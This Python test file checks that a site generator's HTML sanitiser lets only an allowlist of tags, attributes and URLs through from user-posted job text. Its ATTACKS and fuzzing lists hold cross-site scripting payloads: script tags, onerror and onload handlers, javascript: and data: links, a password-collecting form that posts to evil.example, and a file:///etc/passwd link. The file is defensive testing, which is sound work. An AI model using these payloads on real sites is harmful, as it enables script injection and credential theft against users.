"""Postings are other people's text: nothing but the allowlist ever comes out of `make_prose`, for any body."""

import ast
import re
from html.parser import HTMLParser
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from sitegen.model.posting import BodyKind
from sitegen.reading.body.blocks import is_safe_url
from sitegen.reading.body.prose import ATTRIBUTES, MAX_CHARACTERS, TAGS, make_prose

KINDS: tuple[BodyKind, ...] = ("markdown", "plain", "html")
FILLER = "<p>We build quiet bridges for people who have to cross rivers, and we have done so for thirty years.</p>\n\n"


class _Reader(HTMLParser):
    """Every tag, with its attributes, as a browser would see them."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.others: list[str] = []
        self.open: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))
        if tag != "br":
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        assert self.open.pop() == tag

    def handle_comment(self, data: str) -> None:
        self.others.append(data)

    def handle_decl(self, decl: str) -> None:
        self.others.append(decl)

    def handle_pi(self, data: str) -> None:
        self.others.append(data)

    def unknown_decl(self, data: str) -> None:
        self.others.append(data)


def assert_only_the_allowlist(html: str) -> None:
    """Only known tags with known attributes, closed in order; links to web or mail addresses, marked as not ours."""
    seen = _Reader(html)
    assert seen.others == []
    assert seen.open == []
    for tag, attributes in seen.tags:
        assert tag in TAGS
        allowed = ATTRIBUTES.get(tag, set()) | ({"rel"} if tag == "a" else {"class"} if tag == "div" else set())
        assert set(attributes) <= allowed
        if tag == "a":
            assert re.match(r"(?:https?://|mailto:)[^\s]+$", attributes["href"] or "")
            assert attributes["rel"] == "nofollow ugc noopener"
        if tag == "div":
            assert attributes["class"] == "scroll"
        if "id" in attributes:
            assert re.fullmatch(r"s-[a-z0-9-]+", attributes["id"] or "")


ATTACKS = [
    # elements
    "<script>alert(1)</script>",
    "<script src=//evil.example></script>",
    "<scr<script>ipt>alert(1)</script>",
    "<iframe src=https://evil.example></iframe>",
    "<object data=x></object>",
    "<embed src=x>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<form action=//evil.example><input name=password><button>Go</button></form>",
    "<style>*{display:none}</style>",
    "<svg><script>alert(1)</script></svg>",
    "<svg/onload=alert(1)>",
    "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
    "<template><img src=x onerror=alert(1)></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<video><source onerror=alert(1)></video>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x",
    # attributes
    "<p onclick=alert(1) style='position:fixed;inset:0'>x</p>",
    "<img src=x onerror=alert(1)>",
    "<h2 id=apply>x</h2>",
    "<a name=top class=button>x</a>",
    "<div class='notice' tabindex=5 role=alert>x</div>",
    "<b autofocus onfocus=alert(1)>x</b>",
    # addresses
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' jAvAsCrIpT:alert(1)'>x</a>",
    "<a href='java&#9;script:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<a href='//evil.example'>x</a>",
    "<a href='/jobs/'>x</a>",
    "<a href='https://bank.example@evil.example/'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "[x](javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](JAVASCRIPT&colon;alert(1))",
    "[x](data:text/html;base64,PHN2)",
    "![x](https://evil.example/pixel.gif)",
    "[![x](javascript:alert(1))](javascript:alert(1))",
    "<javascript:alert(1)>",
    '[x](https://example.org/"onmouseover=alert(1))',
    "[x]: javascript:alert(1)\n\n[x]",
    'https://example.org/"><script>alert(1)</script>',
    # markup that does not close
    "<!-- hidden",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php evil() ?>",
    "<!DOCTYPE html>",
    "<p",
    "<a href='x",
    "</div></div></body>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    # Markdown that holds HTML
    "```\n<script>alert(1)</script>\n```",
    "`<script>`",
    "| <script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "> <script>alert(1)</script>",
    "## <img src=x onerror=alert(1)>\n\ntext",
    "**<script>alert(1)</script>**",
    "* <svg/onload=alert(1)>",
    # our own control characters and marks
    "\x02\x04\x03\x05<b>x</b>\x02",
    "**\x03<script>\x02**",
    "\x00\x1b[31m",
]


@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_but_the_allowlist_comes_out(attack: str, kind: BodyKind) -> None:
    for body in (attack, FILLER + attack, f"{FILLER}{attack}\n\n{FILLER}## End\n\nx"):
        prose = make_prose(body, kind)
        assert_only_the_allowlist(prose.html.html)
        assert_only_the_allowlist(prose.legal.html)


def test_raw_html_in_markdown_is_shown_as_text() -> None:
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in make_prose("<script>alert(1)</script>", "markdown").html.html


def test_what_scripts_and_styles_hold_is_no_text_of_an_html_body() -> None:
    prose = make_prose(f"{FILLER}<style>p {{ color: red }}</style><script>alert(1)</script>", "html")
    assert "alert" not in prose.html.html + prose.text
    assert "color" not in prose.html.html + prose.text


def test_direction_and_zero_width_characters_are_removed() -> None:
    for kind in KINDS:
        prose = make_prose("pay\u202edeyap \u2066here\u2069 in\u200bvisible&#8238;x", kind)
        assert not re.search("[\u202a-\u202e\u2066-\u2069\u200b]", prose.html.html + prose.text + prose.excerpt)


URLS = [
    ("https://example.org/a?b=c", True),
    ("mailto:jobs@example.org", True),
    ("http://localhost:8000", False),
    ("javascript:alert(1)", False),
    ("JAVASCRIPT:alert(1)", False),
    ("//example.org", False),
    ("/jobs/", False),
    ("https://", False),
    ("https://user:secret@example.org", False),
    ("https://example.org/a b", False),
    ("https://exa\tmple.org", False),
    ("https://[::1", False),
    ("https://example.org:port", False),
    ("mailto:", False),
    ("data:text/html,x", False),
    ("ftp://example.org", False),
    ("", False),
]


@pytest.mark.parametrize(("url", "safe"), URLS)
def test_a_page_points_only_to_web_and_mail_addresses(url: str, safe: bool) -> None:
    assert is_safe_url(url) is safe


PIECE = st.sampled_from(
    [
        "<",
        ">",
        "</",
        "<a href=",
        "'",
        '"',
        "javascript:alert(1)",
        "https://example.org",
        "<script>",
        "</script>",
        "<div>",
        "<li>",
        "<b>",
        "</b>",
        "<!--",
        "-->",
        "&lt;",
        "&#x3c;",
        "&",
        "[",
        "](",
        ")",
        "![",
        "`",
        "**",
        "_",
        "\n",
        "\n\n",
        "# ",
        "* ",
        "> ",
        "|",
        "a",
        " x ",
        "onerror=",
        "\x02",
        "\x03",
        "\x04",
        "\x05",
        "\u202e",
        "style",
        "<p ",
        "<svg/onload=1>",
        "<table><tr><td>",
    ]
)


@settings(max_examples=150, deadline=None)
@given(st.lists(PIECE, max_size=40).map("".join), st.sampled_from(KINDS), st.booleans())
def test_no_combination_of_pieces_gets_through(body: str, kind: BodyKind, is_long: bool) -> None:
    prose = make_prose(FILLER * is_long + body, kind)
    assert_only_the_allowlist(prose.html.html)
    assert_only_the_allowlist(prose.legal.html)


@settings(max_examples=100, deadline=None)
@given(st.text(max_size=300), st.sampled_from(KINDS))
def test_sanitising_again_changes_nothing(body: str, kind: BodyKind) -> None:
    html = make_prose(body, kind).html.html
    assert_only_the_allowlist(html)
    assert "\x02" not in html


HUGE = [
    "<div>",
    "<ul><li>",
    "<b>",
    "> ",
    "[",
    "](",
    "**",
    "** ",
    "_",
    "* ",
    "\n",
    "\t",
    "&lt;div&gt;",
    "<!--",
    "`",
    "#LI-",
    "a:\n",
    "race, ",
]


@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.parametrize("piece", HUGE)
def test_nothing_nests_or_explodes_however_often_it_is_repeated(piece: str, kind: BodyKind) -> None:
    html = make_prose(piece * (20_000 // len(piece)) + "end", kind).html.html
    assert_only_the_allowlist(html)
    depth = deepest = 0
    for tag in re.findall(r"</?[a-z]", html):
        depth += -1 if tag.startswith("</") else 1
        deepest = max(deepest, depth)
    assert deepest <= 10


def test_a_body_beyond_the_cap_is_cut() -> None:
    assert len(make_prose("word " * MAX_CHARACTERS, "plain").text) <= MAX_CHARACTERS


def test_only_the_prose_module_makes_trusted_html(repository: Path) -> None:
    makers = set()
    for path in (repository / "sitegen").rglob("*.py"):
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if isinstance(node, ast.Call) and ast.unparse(node.func).rpartition(".")[2] in ("SafeHtml", "Markup"):
                makers.add(path.relative_to(repository).as_posix())
    assert makers == {"sitegen/reading/body/prose.py"}
